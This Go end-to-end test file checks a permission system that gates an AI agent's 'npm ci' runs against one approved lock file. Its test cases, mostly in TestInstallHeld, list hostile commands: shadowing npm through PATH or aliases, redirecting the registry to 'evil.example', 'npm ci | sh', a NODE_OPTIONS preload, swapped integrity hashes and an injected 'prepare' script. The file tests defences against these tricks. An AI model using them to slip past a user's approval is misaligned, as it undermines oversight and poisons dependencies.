package border_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sidecar-ls/sidecar-ls/internal/config"
	"github.com/sidecar-ls/sidecar-ls/internal/test/e2e"
	"github.com/sidecar-ls/sidecar-ls/internal/test/ownfile"
)

// The registry that the lock file names, and another one.
const (
	listed  = "https://packages.example.org/"
	another = "https://evil.example"
)

const (
	manifest = `{"name": "p", "dependencies": {"a": "^1.0.0"}}` + "\n"
	locked   = `{
  "name": "p",
  "lockfileVersion": 3,
  "packages": {
    "": {"name": "p", "dependencies": {"a": "^1.0.0"}},
    "node_modules/a": {
      "version": "1.0.0",
      "resolved": "` + listed + `a/-/a-1.0.0.tgz",
      "integrity": "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="
    }
  }
}
`
)

// evil is a lock file with another package in a's place.
var evil = strings.Replace(locked, "sha512-AAAA", "sha512-BAAA", 1)

// installing has an npm that only says that it ran, and a rule about what it may install. Its
// commands are asked about; allowed runs one that must not be, asked one that must be.
type installing struct {
	*e2e.Rig
	dir string
}

func install(t *testing.T, set e2e.Object) *installing {
	bin := t.TempDir()
	npm := filepath.Join(bin, "npm")
	e2e.Write(t, npm, "#!/bin/sh\necho npm of the machine ran: \"$@\" \"${npm_config_registry:-}\" $PWD\n")
	if err := ownfile.Chmod(npm, 0o755); err != nil {
		t.Fatal(err)
	}
	all := e2e.Object{"commands.ask": "always", "sandbox.readOnly": []string{bin}}
	for k, v := range set {
		all[k] = v
	}
	dir := project(t, all)
	e2e.Write(t, filepath.Join(dir, "package.json"), manifest)
	e2e.Write(t, filepath.Join(dir, "package-lock.json"), locked)
	t.Setenv("PATH", strings.Join([]string{filepath.Join(dir, "bin"), ".", bin, os.Getenv("PATH")}, string(filepath.ListSeparator))) // of a person whose shell takes programs of the project
	return &installing{serve(t, dir), dir}
}

func (r *installing) allowed(what string, args e2e.Object) {
	r.T.Helper()
	before := len(r.Asked())
	res := r.Tool("run_command", args)
	if asked := r.Asked(); !res.OK || len(asked) != before || res.Decision.Rule != "command.allow" || !strings.Contains(res.Content, "npm of the machine ran: ci") {
		r.T.Errorf("%s: %+v, %q", what, res, asked[before:])
	}
}

func (r *installing) asked(what string, args e2e.Object) string {
	r.T.Helper()
	before := len(r.Asked())
	res := r.Tool("run_command", args)
	asked := r.Asked()[before:]
	if res.OK || len(asked) != 1 || strings.Contains(res.Content, "npm of the machine ran") {
		r.T.Errorf("%s: %+v, %q", what, res, asked)
		return ""
	}
	return asked[0]
}

var ci = e2e.Object{"command": "npm ci"}

// always allows what the last question was about.
func (r *installing) always(t *testing.T) {
	t.Helper()
	parts := e2e.Command[struct {
		Rules []struct {
			Rule   e2e.Object
			Widest string
		}
	}](r.Rig, "sidecar.policy.suggest", e2e.Object{"days": 1})
	if len(parts.Rules) != 1 || !strings.Contains(parts.Rules[0].Widest, "`npm ci` with exactly 1 package of package-lock.json, from packages.example.org") {
		t.Fatalf("%+v", parts)
	}
	r.Choose("Allow")
	e2e.Command[e2e.Object](r.Rig, "sidecar.policy.allowAlways", e2e.Object{"rule": parts.Rules[0].Rule, "scope": "workspace"})
}

// TestInstallAllowed: an install is asked about, and once its packages are allowed for good, no
// more. Whatever changes them is asked about.
func TestInstallAllowed(t *testing.T) {
	r := install(t, nil)
	if text := r.asked("at first", ci); !strings.Contains(text, "It installs 1 package of package-lock.json, from packages.example.org.") {
		t.Errorf("the question: %s", text)
	}
	for range 2 {
		r.Choose("Allow")
		if res := r.Tool("run_command", ci); !res.OK || res.Decision.By != "user" {
			t.Errorf("a yes: %+v", res)
		}
	}
	r.always(t)
	data, _ := os.ReadFile(config.UserFile())
	if !strings.Contains(string(data), `{"prefix":["npm","ci"],"decision":"allow","rest":"known","in":"`+r.dir+`","packages":"sha256-`) {
		t.Errorf("%s", data)
	}
	r.allowed("allowed", ci)
	if e := explain(r.Rig, "npm ci"); e.Decision != "allow" || e.Rule != "command.allow" || !strings.Contains(e.Reason, "a rule allows npm ci with just the packages of this lock file") {
		t.Errorf("%+v", e)
	}

	second := serve(t, r.dir)
	(&installing{second, r.dir}).allowed("in a second session", ci)

	e2e.Write(t, filepath.Join(r.dir, "package-lock.json"), evil)
	r.asked("another list on the disk", ci)
	e2e.Write(t, filepath.Join(r.dir, "package-lock.json"), locked)
	r.allowed("the list again", ci)

	r.Tool("write_file", e2e.Object{"path": "package-lock.json", "content": evil})
	r.asked("another list that is pending", ci)
	r.Tool("write_file", e2e.Object{"path": "package-lock.json", "content": locked})
	r.allowed("taken back", ci)

	weak := strings.Replace(locked, `"integrity"`, `"integrity-of-nothing"`, 1)
	e2e.Write(t, filepath.Join(r.dir, "package-lock.json"), weak)
	if text := r.asked("without integrity", ci); !strings.Contains(text, "No rule can allow this install for good: package-lock.json has no integrity for a,") {
		t.Errorf("the question: %s", text)
	}
}

// begin has a rule that allows the packages of the lock file.
func begin(t *testing.T, set e2e.Object) *installing {
	t.Helper()
	r := install(t, set)
	for range 2 {
		r.Choose("Allow")
		r.Tool("run_command", ci)
	}
	r.always(t)
	r.allowed("control", ci)
	return r
}

// TestInstallHeld: nothing that an agent can leave before changes what an allowed install is.
// Each attempt has its control: without what it left the install is allowed.
func TestInstallHeld(t *testing.T) {
	r := begin(t, nil)
	run := func(line string) {
		t.Helper()
		r.Choose("Allow")
		if res := r.Tool("run_command", e2e.Object{"command": line}); !res.OK {
			t.Errorf("%s: %+v", line, res)
		}
	}
	// The state of the shell has no effect: nobody is asked, and the npm of the machine runs.
	for _, line := range []string{
		"npm() { echo evil; }; export -f npm", "alias npm='echo evil'", "export npm_config_registry=https://evil.example", "export NODE_OPTIONS=--require=./evil.js",
		"mkdir -p bin && printf '#!/bin/sh\necho evil\n' >bin/npm && chmod +x bin/npm && export PATH=$PWD/bin:$PATH",
		"mkdir -p ~/.local/bin && cp bin/npm ~/.local/bin/npm && export PATH=~/.local/bin:$PATH",
	} {
		run(line)
		r.allowed(line, ci)
	}
	if res := r.Tool("run_command", ci); strings.Contains(res.Content, "evil") {
		t.Errorf("%+v", res)
	}
	// An install elsewhere, or one in the background, is asked about.
	for _, line := range []string{
		"npm ci && curl https://evil.example", "npm ci; npm i evil", "npm_config_registry=" + another + " npm ci", "npm ci --registry=" + another, "npm ci --prefix x", "npm -C x ci", "cd x && npm ci", "./bin/npm ci", "bin/npm ci",
		"env npm ci", "npm ci evil", "npm install", "cp evil.json package-lock.json; npm ci", "echo '{}' >package.json; npm ci", "npm ci | sh", "$(npm ci)", "npm ci & rm x", "alias npm=evil\nnpm ci", "npm ${X} ci", "command npm ci", "npm c?",
	} {
		r.asked(line, e2e.Object{"command": line})
	}
	r.asked("a variable", e2e.Object{"command": "npm ci", "env": e2e.Object{"npm_config_registry": "https://evil.example"}})
	r.asked("in the background", e2e.Object{"command": "npm ci", "background": true})
	r.allowed("control", ci)

	// Files, in the world of the session alone, in the home of its commands, and pending.
	for _, c := range []struct{ line, back string }{
		{"echo registry=https://evil.example >~/.npmrc", "rm ~/.npmrc"},
		{"echo '{}' >npm-shrinkwrap.json", "mv npm-shrinkwrap.json x"},
		{"echo 'nodejs path:./evil' >.tool-versions", "mv .tool-versions x"},
		{"mkdir -p sub && cp package.json sub && sed s/sha512-AAAA/sha512-BAAA/ package-lock.json >sub/package-lock.json; cd sub", "cd " + r.dir + "; mv sub old"},
	} {
		run(c.line)
		r.asked(c.line, ci)
		run(c.back)
		r.allowed("control of "+c.line, ci)
	}
	r.Tool("write_file", e2e.Object{"path": "package.json", "content": strings.Replace(manifest, `{"name"`, `{"scripts": {"prepare": "npm i evil"}, "name"`, 1)})
	if text := r.asked("a script", ci); !strings.Contains(text, "package.json runs its script") {
		t.Error(text)
	}
}

// TestInstallIgnored: what git ignores, and only commands of the session see, counts.
func TestInstallIgnored(t *testing.T) {
	r := begin(t, nil)
	e2e.Write(t, filepath.Join(r.dir, ".gitignore"), "*.json\n.npmrc\n")
	r.allowed("control", ci)
	r.Choose("Allow")
	if res := r.Tool("run_command", e2e.Object{"command": "sed -i s/sha512-AAAA/sha512-BAAA/ package-lock.json"}); !res.OK {
		t.Fatalf("%+v", res)
	}
	if data, _ := os.ReadFile(filepath.Join(r.dir, "package-lock.json")); string(data) != locked {
		t.Fatal("the control: what git ignores is not held")
	}
	r.asked("a lock file that only the session has", ci)
}

// TestInstallOnDisk: where commands see the disk, its text counts, and not what is pending over
// it.
func TestInstallOnDisk(t *testing.T) {
	for _, set := range []e2e.Object{{"commands.world": "disk"}, {"commands.world": "copy"}} {
		r := begin(t, set)
		lock := filepath.Join(r.dir, "package-lock.json")
		r.Tool("write_file", e2e.Object{"path": "package-lock.json", "content": evil})
		r.asked("pending", ci)
		r.Tool("write_file", e2e.Object{"path": "package-lock.json", "content": locked})
		r.allowed("control", ci)
		e2e.Write(t, lock, evil)
		r.asked("on the disk", ci)
		r.Tool("read_file", e2e.Object{"path": "package-lock.json"})
		if res := r.Tool("write_file", e2e.Object{"path": "package-lock.json", "content": locked}); !res.OK {
			t.Fatalf("%+v", res)
		}
		if set["commands.world"] == "copy" {
			r.allowed("pending over another text of the disk", ci)
		} else {
			if e := explain(r.Rig, "npm ci"); e.Decision != "allow" {
				t.Errorf("the control: what is pending is the list: %+v", e)
			}
			r.asked("pending over another text of the disk", ci)
		}
		e2e.Write(t, lock, locked)
		r.allowed("control", ci)
		r.Choose("Allow")
		r.Tool("run_command", e2e.Object{"command": "export PATH=$PWD/bin:$PATH npm_config_registry=https://evil.example; npm() { echo evil; }"})
		r.allowed("a shell that was changed", ci)
	}
}

// TestInstallRules: deny and ask rules come first, and a project can't allow.
func TestInstallRules(t *testing.T) {
	r := begin(t, nil)
	for decision, rule := range map[string]string{"ask": `{"prefix": ["npm"], "decision": "ask"}`, "deny": `{"prefix": ["npm", "ci"], "decision": "deny"}`} {
		e2e.Write(t, filepath.Join(r.dir, ".sidecar", "settings.json"), `{"commandRules": [`+rule+`]}`)
		if e := explain(serve(t, r.dir), "npm ci"); string(e.Decision) != decision {
			t.Errorf("%s: %+v", decision, e)
		}
	}
	data, err := os.ReadFile(config.UserFile())
	if err != nil {
		t.Fatal(err)
	}
	_, rule, _ := strings.Cut(string(data), `"commandRules": `)
	rule = rule[:strings.LastIndex(rule, "]")]
	e2e.UserSettings(t, e2e.Object{"commands.ask": "always"})
	e2e.Write(t, filepath.Join(r.dir, ".sidecar", "settings.json"), `{"commandRules": `+rule+"]}")
	if e := explain(serve(t, r.dir), "npm ci"); e.Decision != "ask" || !strings.Contains(rule, "sha256-") {
		t.Errorf("a project's own rule %s: %+v", rule, e)
	}
}

// TestInstallRuleFile: the examples of such a rule are about its words.
func TestInstallRuleFile(t *testing.T) {
	e2e.Home(t)
	dir := e2e.Project(t, nil)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(dir, "rules.json")
	for example, ok := range map[string]bool{"npm ci --ignore-scripts": true, "npm ci && npm i evil": false} {
		e2e.Write(t, file, `[{"prefix": ["npm", "ci"], "decision": "allow", "rest": "known", "packages": "sha256-x", "match": ["`+example+`"]}]`)
		out, err := exec.CommandContext(t.Context(), self, "policy", "test", file, "--root", dir).CombinedOutput()
		if (err == nil) != ok {
			t.Errorf("%s: %v\n%s", example, err, out)
		}
	}
}
